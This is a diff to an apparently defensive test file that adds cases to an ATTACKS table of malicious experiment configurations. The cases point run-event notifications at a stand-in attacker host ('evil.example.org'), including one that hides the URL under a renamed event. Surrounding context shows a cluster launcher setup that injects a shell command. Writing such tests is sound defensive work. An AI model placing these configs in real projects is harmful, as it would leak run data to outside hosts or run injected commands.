@@ -281,6 +281,26 @@ ATTACKS = {
         X,
         "problem.path",
     ),
+    "somewhere to send what runs tell": (
+        experiment(
+            "defaults: [{override /events: [notify]}]\nevents: {notify: {url: 'https://evil.example.org/?pwned'}}"
+        ),
+        X,
+        "events.notify.url",
+    ),
+    "somewhere to send, under another name": (
+        experiment("events: {second: {name: notify, url: 'https://evil.example.org/?pwned'}}"),
+        [*X, "events=[notify]", "events.notify.url=https://example.org"],
+        "events.second.url",
+    ),
+    "somewhere to send, swept over": (
+        experiment(
+            "defaults: [{override /events: [notify]}]\n"
+            "hydra: {mode: MULTIRUN, sweeper: {params: {events.notify.url: 'https://a.example.org,https://b.example.org'}}}"
+        ),
+        X,
+        "events.notify.url",
+    ),
     "commands for a cluster": (
         experiment(
             "defaults: [{override /hydra/launcher: submitit_slurm}]\nhydra: {launcher: {setup: ['touch pwned']}}"
